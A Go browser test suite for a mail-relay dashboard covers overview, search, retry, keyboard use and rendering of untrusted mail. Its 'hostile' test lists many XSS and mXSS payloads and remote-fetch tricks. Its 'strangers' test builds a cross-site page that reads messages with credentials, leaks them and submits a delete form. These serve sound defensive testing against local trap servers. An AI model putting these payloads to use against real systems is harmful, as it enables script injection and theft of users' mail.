package browser

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// TestPage walks through the page as its users do. One browser serves all.
func TestPage(t *testing.T) {
	browser := chromium(t)
	for name, walk := range map[string]func(*testing.T, context.Context){
		"live overview": liveOverview, "search": search, "retry": retry, "move": move, "hostile mail": hostile, "strangers": strangers,
		"keyboard": keyboard, "first mail": firstMail, "calm": calm, "crowd": crowd, "phone": phone, "way in": wayIn, "access": accessible, "budget": budget, "screenshots": screenshots,
	} {
		t.Run(name, func(t *testing.T) { walk(t, browser) })
	}
}

// liveOverview: the figures change while mail flows, and nobody loads the page again.
func liveOverview(t *testing.T, browser context.Context) {
	h := newHouse(t)
	b := h.open(browser)
	b.visit("/overview")
	b.shows(".figure", "Accepted today 0")
	b.shows("#whole", "All mail is moving")
	js[bool](b, `window.same = true`)
	for range 3 {
		h.send("shop@example.com", "Your order", "bob@example.org")
	}
	b.shows(".figure", "Accepted today 3")
	b.shows(".figure", "Sent today 3")
	h.provider.status.Store(http.StatusUnauthorized)
	h.send("news@example.com", "News", "ann@example.org")
	b.shows("#attention", "bulk has been closed")
	b.shows("#whole", "1 waits for bulk")
	if !js[bool](b, `window.same === true`) {
		t.Error("the page was loaded again")
	}
	b.visit("/messages")
	h.send("shop@example.com", "One more", "bob@example.org")
	b.shows("#new", "1 new message")
	if js[bool](b, `document.querySelector("#rows").textContent.includes("One more")`) {
		t.Error("rows jump")
	}
	b.click("#new a", "1 new message")
	b.shows("#rows", "One more")
}

// search: by recipient and by subject, from the field at the top.
func search(t *testing.T, browser context.Context) {
	h := newHouse(t)
	h.send("shop@example.com", "Your order 4711", "bob@example.org")
	h.send("shop@example.com", "Your invoice", "ann@example.org")
	h.send("shop@example.com", "Held back", "eva@drafts.example.net")
	b := h.open(browser)
	for line, want := range map[string]string{"to:bob": "Your order 4711", "bob@example.org": "Your order 4711", `subject:"order 4711"`: "Your order 4711", "invoice": "Your invoice", "state:held": "Held back"} {
		b.visit("/overview")
		b.must(chromedp.SendKeys(chromedp.CSS("#q"), line+"\r"))
		b.at("/messages?q=")
		b.shows("#rows", want)
		if n := js[int](b, `document.querySelectorAll("#rows tr").length`); n != 1 {
			t.Errorf("%s finds %d messages", line, n)
		}
	}
}

// retry: mail that has failed is tried again, and the page shows how it is sent.
func retry(t *testing.T, browser context.Context) {
	h := newHouse(t)
	h.provider.status.Store(http.StatusUnprocessableEntity)
	h.send("news@example.com", "News of today", "bob@example.org")
	b := h.open(browser)
	b.visit("/messages?q=state:failed")
	b.await("the failure", `document.querySelector("#rows tr") ? true : (location.reload(), false)`)
	b.click(".subject a", "News of today")
	b.shows(".fates", "failed")
	b.shows(".fates", "The mailbox is on holiday")
	h.provider.status.Store(http.StatusOK)
	b.click(".tools button", "Retry…")
	b.shows("h1", "Retry 1 recipient of 1 message?")
	b.click(".primary", "Retry 1 recipient")
	b.at("/messages/")
	b.shows(".did", "1 recipient is tried again.")
	b.shows(".fates", "bob@example.org taken by bulk")
	b.shows(".timeline", "page: ann tried it again for bob@example.org")
	b.shows(".timeline", "as re_")
}

// move: mail that waits takes another way.
func move(t *testing.T, browser context.Context) {
	h := newHouse(t)
	h.provider.status.Store(http.StatusUnauthorized)
	h.send("news@example.com", "News of today", "bob@example.org")
	b := h.open(browser)
	b.visit("/overview")
	b.shows("#attention", "bulk has been closed")
	b.click("#attention a", "Move elsewhere…")
	b.shows("h1", "Move where?")
	js[bool](b, `document.querySelector("#target").value = "main"; true`)
	b.click(".primary", "Go on")
	b.shows("h1", "Move 1 recipient of 1 message to main?")
	b.click(".primary", "Move 1 recipient")
	b.shows("main", "1 recipient of 1 message is moved.")
	b.visit("/messages")
	b.shows("#rows", "News of today")
	b.click(".subject a", "News of today")
	b.shows(".fates", "bob@example.org taken by main")
	b.shows(".timeline", "page: ann moved it to main")
}

// hostile: mail runs nothing and fetches nothing, whichever part of it is looked at.
func hostile(t *testing.T, browser context.Context) {
	var fetched atomic.Int32
	trap := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		fetched.Add(1)
		t.Errorf("the mail fetched %s", r.URL)
	}))
	defer trap.Close()
	const run = `try{top.owned=1}catch(e){} fetch("TRAP/fetch"); new Image().src="TRAP/image"; parent.postMessage("owned","*")`
	parts := []string{
		`<script>RUN</script>`, `<img src=x onerror='RUN'>`, `<img src="TRAP/pixel.gif">`, `<img srcset="TRAP/set.gif 1x">`, `<svg onload='RUN'><image href="TRAP/svg"/></svg>`,
		`<link rel=stylesheet href="TRAP/css">`, `<link rel=prefetch href="TRAP/prefetch">`, `<link rel=dns-prefetch href="TRAP/">`, `<style>@import "TRAP/import"; body{background:url(TRAP/background)} @font-face{font-family:f;src:url(TRAP/font)} p{font-family:f}</style>`,
		`<p style="background:url('TRAP/style')">text</p>`, `<iframe src="TRAP/frame"></iframe>`, `<iframe srcdoc="<script>RUN</script>"></iframe>`, `<object data="TRAP/object"></object>`,
		`<embed src="TRAP/embed">`, `<video src="TRAP/video" poster="TRAP/poster" autoplay></video>`, `<audio src="TRAP/audio" autoplay></audio>`, `<meta http-equiv=refresh content="0;url=TRAP/refresh">`,
		`<base href="TRAP/">`, `<img src="relative.gif">`, `<form action="TRAP/form" method=post><button autofocus>Go</button></form>`, `<body onload='RUN' background="TRAP/body">`,
		`<a id=js href="javascript:RUN">click</a>`, `<details open ontoggle='RUN'>x</details>`, `<input autofocus onfocus='RUN'>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">`,
		`<noscript><p title="</noscript><img src=x onerror=RUN>">`, `<template><script>RUN</script></template>`,
	}
	html := strings.NewReplacer("RUN", run, "TRAP", trap.URL).Replace(strings.ReplaceAll(strings.Join(parts, "\n"), "RUN", run))
	html = strings.ReplaceAll(html, "TRAP", trap.URL)
	h := newHouse(t)
	h.sendAs("shop@example.com", []string{"eva@drafts.example.net"}, "Subject: </title><script>top.owned=1</script><img src="+trap.URL+"/subject>\r\nFrom: \"<img src=x onerror=top.owned=1>\" <shop@example.com>\r\n"+
		"X-Evil: <script>top.owned=1</script>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: multipart/alternative; boundary=c\r\n\r\n"+
		"--c\r\n\r\n<script>top.owned=1</script> "+trap.URL+"/text\r\n--c\r\nContent-Type: text/html\r\n\r\n<h1 id=shown>Shown</h1>"+strings.ReplaceAll(html, "\n", "\r\n")+"\r\n--c--\r\n"+
		"--b\r\nContent-Type: text/html; name=\"<script>top.owned=1</script>.html\"\r\nContent-Disposition: attachment\r\n\r\n<script>top.owned=1</script>\r\n--b--\r\n")
	b := h.open(browser)
	b.visit("/messages")
	b.shows("#rows", "</title><script>")
	address := js[string](b, `document.querySelector(".subject a").getAttribute("href")`)
	for _, screen := range []string{"", "?tab=html", "?tab=text", "?tab=headers", "?tab=files", "?tab=source", "/again", "/html"} {
		b.visit(address + screen)
		if screen == "?tab=html" {
			b.shows("main", "would have been fetched from other machines")
		}
		time.Sleep(150 * time.Millisecond) // for what may be fetched in spite of all
		if js[bool](b, `"owned" in window`) {
			t.Errorf("%s: a script ran", screen)
		}
		if at := js[string](b, `location.href`); at != h.base+address+screen {
			t.Errorf("%s: the mail led the page to %s", screen, at)
		}
		if screen == "/html" {
			b.shows("#shown", "Shown")
		}
	}
	b.visit("/act?do=delete&id=" + strings.TrimPrefix(address, "/messages/"))
	b.shows("h1", "Delete 1 recipient")
	if n := fetched.Load(); n != 0 {
		t.Errorf("%d requests", n)
	}
}

// strangers: another page in the same browser, a name that was made to point here, and whoever has no cookie get nothing and
// change nothing.
func strangers(t *testing.T, browser context.Context) {
	h := newHouse(t)
	h.send("shop@example.com", "Secret plan", "eva@drafts.example.net")
	b := h.open(browser)
	b.visit("/messages")
	b.shows("#rows", "Secret plan")
	id := js[string](b, `document.querySelector("#rows input").value`)

	answers := make(chan string, 8)
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			answers <- r.URL.Query().Get("said")
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<form id=f method=post action="%[1]s/act"><input name=do value=delete><input name=id value=%[2]s></form><script>
			fetch("%[1]s/messages", {credentials: "include"}).then(r => r.text()).catch(e => "nothing").then(s => fetch("/said?said=" + encodeURIComponent(s.slice(0, 2000))))
			.then(() => f.submit())</script>`, h.base, id)
	}))
	defer evil.Close()
	b.must(chromedp.Navigate(evil.URL))
	b.await("the answer to a form of another page", fmt.Sprintf(`location.href.startsWith(%s) && document.readyState === "complete"`, quote(h.base)))
	if body := js[string](b, `document.body.innerText`); strings.Contains(body, "Secret plan") || strings.Contains(body, "Done") {
		t.Errorf("another page's form is answered with %s", body)
	}
	if said := <-answers; strings.Contains(said, "Secret") {
		t.Errorf("another page reads %s", said)
	}
	b.visit("/messages/" + id)
	b.shows(".fates", "held")

	form := url.Values{"do": {"delete"}, "id": {id}}.Encode()
	for what, change := range map[string]func(*http.Request){
		"without a cookie": func(*http.Request) {},
		"of another page":  func(r *http.Request) { r.Header.Set("Origin", evil.URL) },
		"by another name":  func(r *http.Request) { r.Host = "evil.example.com" },
		"cross-site":       func(r *http.Request) { r.Header.Set("Sec-Fetch-Site", "cross-site") },
	} {
		for _, method := range []string{http.MethodGet, http.MethodPost} {
			for _, path := range []string{"/", "/messages", "/messages/" + id, "/messages/" + id + "/source", "/messages/" + id + "/html", "/act", "/live", "/config", "/style.css"} {
				r, err := http.NewRequestWithContext(t.Context(), method, h.base+path, strings.NewReader(form))
				if err != nil {
					t.Fatal(err)
				}
				r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
				change(r)
				resp, err := http.DefaultClient.Do(r)
				if err != nil {
					t.Fatal(err)
				}
				_ = resp.Body.Close()
				if resp.StatusCode < 400 {
					t.Errorf("%s %s %s: %s", method, path, what, resp.Status)
				}
			}
		}
	}
	b.visit("/messages/" + id)
	b.shows(".fates", "held")
}

// keyboard: from anywhere to a message and its retry, without a mouse.
func keyboard(t *testing.T, browser context.Context) {
	h := newHouse(t)
	h.provider.status.Store(http.StatusUnauthorized)
	h.send("news@example.com", "First", "ann@example.org")
	h.send("news@example.com", "Second", "bob@example.org")
	b := h.open(browser)
	b.visit("/overview")
	b.press("/")
	if focus := js[string](b, `document.activeElement.id`); focus != "q" {
		t.Errorf("/ leads to %s", focus)
	}
	b.must(chromedp.KeyEvent("upstream:bulk\r"))
	b.at("/messages?q=upstream")
	b.must(chromedp.KeyEvent("j"), chromedp.KeyEvent("j"), chromedp.KeyEvent("j"), chromedp.KeyEvent("k"), chromedp.KeyEvent("x"))
	if n := js[int](b, `document.querySelectorAll("#rows tr:first-child.here input:checked").length`); n != 1 {
		t.Errorf("x does not choose the first message: %s", b.describe())
	}
	b.must(chromedp.KeyEvent("?"))
	b.await("the keys", `document.querySelector("#keys").open`)
	b.must(chromedp.KeyEvent("\u001b"))
	b.await("the page", `!document.querySelector("#keys").open`)
	b.must(chromedp.KeyEvent("\r"))
	b.at("/messages/")
	b.shows("h1", "Second")
	for range 40 { // to the first button
		b.must(chromedp.KeyEvent("\t"))
		if js[string](b, `document.activeElement.textContent`) == "Retry…" {
			break
		}
	}
	if ring := js[string](b, `getComputedStyle(document.activeElement).outlineStyle`); ring != "solid" {
		t.Errorf("the focus is not seen: %s", ring)
	}
	h.provider.status.Store(http.StatusOK)
	b.must(chromedp.KeyEvent("\r"))
	b.shows("h1", "Retry 1 recipient")
	b.await("the focus on the button", `document.activeElement.classList.contains("primary")`)
	b.must(chromedp.KeyEvent("\r"))
	b.shows(".fates", "bob@example.org taken by bulk")
	b.must(chromedp.KeyEvent("u"))
	b.at("/messages")
}

// firstMail: without a config the page waits for mail and says how it gets there; the first one slides in, and its links lead
// where they say.
func firstMail(t *testing.T, browser context.Context) {
	h := newCatcher(t)
	b := h.open(browser)
	b.at("/messages")
	b.shows(".empty", "Waiting for the first mail")
	b.shows(".empty pre", "smtp://"+h.smtp)
	var opened atomic.Int32
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { opened.Add(1) }))
	defer site.Close()
	h.sendAs("app@example.com", []string{"me@example.com"}, "Subject: Reset your password\r\nContent-Type: text/html\r\n\r\n<p><a href=\""+site.URL+"/reset\">Reset</a></p>\r\n")
	b.shows("#rows tr.came", "Reset your password")
	if name := js[string](b, `getComputedStyle(document.querySelector("#rows tr")).animationName`); name != "in" {
		t.Errorf("the first mail does not slide in: %q", name)
	}
	b.media("prefers-reduced-motion=reduce")
	if name := js[string](b, `getComputedStyle(document.querySelector("#rows tr")).animationName`); name != "none" {
		t.Errorf("with reduced motion there is %q", name)
	}
	b.click(".subject a", "Reset your password")
	b.click(".tabs a", "HTML")
	b.at("/messages/")
	b.await("the frame", `document.querySelector("iframe") !== null`)
	b.visit(js[string](b, `document.querySelector("iframe").getAttribute("src")`))
	b.must(chromedp.Click(chromedp.CSS("a")))
	for deadline := time.Now().Add(patience); opened.Load() == 0; time.Sleep(20 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatal("the link does not lead anywhere")
		}
	}
}
